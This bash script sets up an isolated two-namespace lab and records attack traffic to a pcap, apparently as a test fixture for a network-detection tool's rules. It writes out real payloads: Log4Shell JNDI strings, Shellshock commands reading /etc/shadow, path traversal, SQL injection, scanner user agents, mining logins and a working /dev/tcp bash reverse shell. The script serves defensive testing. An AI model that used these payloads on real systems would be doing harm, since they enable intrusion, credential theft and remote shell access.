#!/usr/bin/env bash
# lab/record-attacks.sh [OUT] -- record the attack strings the bundled rules must catch.
#
# Two namespaces on one bridge, as two pods on a node:
#   attacker : 10.98.0.10   sends exploit strings, scanner probes, mining and shell traffic
#   victim   : 10.98.0.20   HTTP :80 (python3 http.server), TCP listeners :3333 :4444
#                           :4445 :4446 :14444 (python3) that read and answer
# plus ordinary requests that no rule may match. The exploit strings are real ones
# (Log4Shell, Shellshock, traversal, SQL injection, scanner user agents, Stratum); the
# Linux reverse shell is a real `bash -i` over /dev/tcp; the Windows and PowerShell
# banners are their text, sent by python3 (there is no Windows here).
#
# All traffic stays between namespaces created here. Output: classic pcap, Ethernet,
# offloads off (default OUT: agent/src/test/resources/captures/lab-attacks.pcap).
# Needs root; missing tools are installed from Debian apt (lab/require.sh).
set -euo pipefail

LAB_DIR=$(cd -- "$(dirname -- "${BASH_SOURCE[0]}")" && pwd)
REPO_DIR=$(cd -- "$LAB_DIR/.." && pwd)
OUT=${1:-$REPO_DIR/agent/src/test/resources/captures/lab-attacks.pcap}

# shellcheck source=lab/require.sh
source "$LAB_DIR/require.sh"
# shellcheck source=lab/netns.sh
source "$LAB_DIR/netns.sh"

say() { echo "[record-attacks] $*" >&2; }
[[ $(id -u) -eq 0 ]] || { say "must run as root: sudo $0 ${1:-}"; exit 1; }

nw_require ip iproute2
nw_require ss iproute2
nw_require tcpdump tcpdump
nw_require curl curl
nw_require ethtool ethtool
if [[ -x /usr/bin/python3 ]]; then PY=/usr/bin/python3; else nw_require python3 python3; PY=$(command -v python3); fi

ATTACKER=10.98.0.10 VICTIM=10.98.0.20
UA="Mozilla/5.0 (X11; Linux x86_64) netwatch-lab/1.0"

nw_init
trap nw_cleanup EXIT
trap 'exit 130' INT
trap 'exit 143' TERM
nw_tmpdir; WORK=$NW_TMP
nw_bridge lan
nw_attach attacker lan "$ATTACKER/24"
nw_attach victim lan "$VICTIM/24"

# ---- victim services -----------------------------------------------------------
mkdir -p "$WORK/www"
printf '<html><body>victim</body></html>\n' >"$WORK/www/index.html"
nw_bg victim "$WORK/http.log" "$PY" -m http.server 80 --bind "$VICTIM" --directory "$WORK/www"

# A listener per port: reads what the peer says; for the shell ports it plays the
# attacker's side (sends commands), for the mining ports the pool's answer.
cat >"$WORK/listen.py" <<'PYEOF'
import socket, sys, threading, time
host = sys.argv[1]
plays = {
    3333: [b'{"id":1,"result":[[["mining.notify","ae6812eb4cd7735a302a8a9dd95cf71f"]],"08000002",4],"error":null}\n'],
    14444: [b'{"id":1,"jsonrpc":"2.0","error":null,"result":{"id":"1","job":{},"status":"OK"}}\n'],
    4444: [b"id\n", b"exit\n"],
    4445: [b"whoami\r\n"],
    4446: [b"whoami\r\n"],
}
def serve(port, answers):
    s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind((host, port)); s.listen(4)
    while True:
        c, _ = s.accept(); c.settimeout(3)
        try:
            for a in answers:
                try:
                    c.recv(65536)
                except socket.timeout:
                    pass
                c.sendall(a); time.sleep(0.3)
            while c.recv(65536):
                pass
        except OSError:
            pass
        c.close()
for port, answers in plays.items():
    threading.Thread(target=serve, args=(port, answers), daemon=True).start()
while True:
    time.sleep(60)
PYEOF
nw_bg victim "$WORK/listen.log" "$PY" "$WORK/listen.py" "$VICTIM"
for p in 80 3333 4444 4445 4446 14444; do nw_wait_listen victim tcp "$p"; done

# ---- capture ---------------------------------------------------------------------
nw_bg attacker "$WORK/tcpdump.log" tcpdump -i eth0 -nn -U -Z root -s 262144 -w "$WORK/out.pcap" \
    "ip and src net 10.98.0.0/24 and dst net 10.98.0.0/24"
TCPDUMP_PID=$NW_LAST_PID
for ((i = 0; i < 100; i++)); do
    grep -q 'listening on' "$WORK/tcpdump.log" 2>/dev/null && break
    sleep 0.1
done
sleep 0.3

a() { nw_exec attacker "$@"; }
web() { # web PATH [curl args...]: one request, one connection
    local path=$1; shift
    a curl -sS --max-time 5 --path-as-is -o /dev/null -w "%{http_code} $path\n" "$@" "http://$VICTIM$path" || true
}

say "ordinary requests (no rule may fire)"
web / -A "$UA"
web /index.html -A "$UA"
web "/search?q=european+union+selection&page=2" -A "$UA"
web /api/items -A "$UA" -X POST -H 'Content-Type: application/json' -d '{"name":"x","tags":["a","b"]}'

say "Log4Shell"
web / -A "$UA" -H 'X-Api-Version: ${jndi:ldap://10.98.0.10:1389/Exploit}'
web '/?q=%24%7Bjndi%3Aldap%3A%2F%2F10.98.0.10%3A1389%2Fa%7D' -A "$UA"
web / -A "$UA" -H 'X-Forwarded-For: ${${lower:j}ndi:ldap://10.98.0.10/a}'
web / -A '${${::-j}${::-n}${::-d}${::-i}:rmi://10.98.0.10/a}'

say "Shellshock"
web /cgi-bin/status -A '() { :; }; /bin/bash -c "cat /etc/shadow"'
web /cgi-bin/status -A "$UA" -H 'Referer: () { _; } >_[$($())] { id; }'

say "path traversal and file disclosure"
web /static/../../../../etc/passwd -A "$UA"
web '/download?file=..%5c..%5cwindows%5cwin.ini' -A "$UA"
web '/index.php?page=/proc/self/environ' -A "$UA"

say "SQL injection"
web '/item?id=1%20UNION%20SELECT%20username,password%20FROM%20users' -A "$UA"
web '/item?id=-1+union+all+select+1,2,3--' -A "$UA"
web '/item?id=-1/**/UNION/**/SELECT/**/NULL,NULL--' -A "$UA"
web '/item?id=-1%20union%20select(1),(2)--' -A "$UA"
web "/item?id=1'%20or%201=1--" -A "$UA"
web "/login?user=admin'%20or%20'1'='1" -A "$UA"
web '/item?id=1%20AND%201=(SELECT%20COUNT(*)%20FROM%20information_schema.tables)' -A "$UA"
web "/item?id=1;WAITFOR%20DELAY%20'0:0:5'--" -A "$UA"
web '/item?id=1%20AND%20(SELECT%201%20FROM%20(SELECT(SLEEP(5)))a)' -A "$UA"

say "scanners"
web / -A 'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)'
web /nmaplowercheck1700000000 -A 'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)'
web /HNAP1 -A "$UA"
web '/item?id=1' -A 'sqlmap/1.7.2#stable'
web / -A 'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)'
web / -A 'masscan/1.3'
web / -A 'Mozilla/5.0 zgrab/0.x'
web /wp-login.php -A 'WPScan v3.8.22'
web /admin -A 'gobuster/3.6'
web /backup -A 'DirBuster-1.0-RC1'
web /FUZZ -A 'Fuzz Faster U Fool v2.1.0'
web / -A "$UA" -X TRACE
web / -A "$UA" -X TRACK
web /default.aspx -A "$UA" -X DEBUG

say "crypto mining (Stratum)"
a "$PY" - "$VICTIM" <<'PYEOF'
import socket, sys, time
def talk(port, lines):
    s = socket.create_connection((sys.argv[1], port), timeout=3)
    for l in lines:
        s.sendall(l); time.sleep(0.3)
        try:
            s.recv(65536)
        except socket.timeout:
            pass
    s.close()
talk(3333, [b'{"id":1,"method":"mining.subscribe","params":["cpuminer-opt/3.23.1"]}\n',
            b'{"params":["bc1qlabwallet.worker1","x"],"id":2,"method":"mining.authorize"}\n'])
talk(14444, [b'{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"4AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYfpAV5Usx3skxNgYeYTRj5UzqtReoS44qo9mtmXCqY45DJ852K5Jv2684Rge","pass":"x","agent":"XMRig/6.21.0 (Linux x86_64) libuv/1.44.2 gcc/12.2.0","algo":["rx/0"]}}\n'])
PYEOF

say "reverse shells"
# A real interactive bash over /dev/tcp, without a terminal: it says so first.
a setsid bash -c "timeout 5 bash -i >& /dev/tcp/$VICTIM/4444 0>&1" </dev/null || true
a "$PY" - "$VICTIM" <<'PYEOF'
import socket, sys, time
for port, banner in ((4445, b"Microsoft Windows [Version 10.0.19045.3693]\r\n(c) Microsoft Corporation. All rights reserved.\r\n\r\nC:\\Users\\victim>"),
                     (4446, b"PS C:\\Users\\victim> ")):
    s = socket.create_connection((sys.argv[1], port), timeout=3)
    s.sendall(banner); time.sleep(0.3)
    try:
        s.recv(65536)
    except socket.timeout:
        pass
    s.close()
PYEOF
sleep 1

nw_stop "$TCPDUMP_PID" INT
grep -E 'packets (captured|received|dropped)' "$WORK/tcpdump.log" >&2 || true
mkdir -p "$(dirname -- "$OUT")"
cp -- "$WORK/out.pcap" "$OUT.tmp.$$"
chmod 0644 "$OUT.tmp.$$"
mv -f -- "$OUT.tmp.$$" "$OUT"
echo "wrote $OUT: $(stat -c %s "$OUT") bytes, $(tcpdump -r "$OUT" -nn 2>/dev/null | wc -l) packets"
